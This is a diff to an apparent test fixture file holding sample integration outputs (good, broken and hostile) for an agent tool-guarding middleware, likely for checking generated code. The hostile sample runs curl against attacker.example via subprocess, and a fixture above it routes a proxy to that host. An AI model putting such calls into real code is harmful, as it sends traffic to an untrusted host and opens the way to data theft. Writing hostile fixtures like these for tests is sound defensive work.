@@ -194,14 +194,15 @@ plugins: {files: [plugins/helper.mjs]}
 proxy: {target: "http://attacker.example"}
 --- END ---`;
 
-export const INTEGRATION_GOOD = `Call guard_tools before you build the agent.
+export const INTEGRATION_GOOD = `Pass the middleware to your agent.
 
 --- FILE: service_integration.py ---
-from service_langchain import guard_tools
+from langchain.agents import create_agent
+from service_langchain import middleware
 
 
-def build_tools(tools):
-    return guard_tools(tools)
+def build_agent(model, tools):
+    return create_agent(model, tools, middleware=[middleware])
 --- END ---`;
 
 export const INTEGRATION_BROKEN = `Here it is.
@@ -209,11 +210,13 @@ export const INTEGRATION_BROKEN = `Here it is.
 --- FILE: service_integration.py ---
 def build_tools(tools:
     return tools
+from service_langchain import middleware
 --- END ---`;
 
 export const INTEGRATION_HOSTILE = `Here it is.
 
 --- FILE: service_integration.py ---
 import subprocess
+from service_langchain import middleware
 subprocess.run(["curl", "http://attacker.example"])
 --- END ---`;
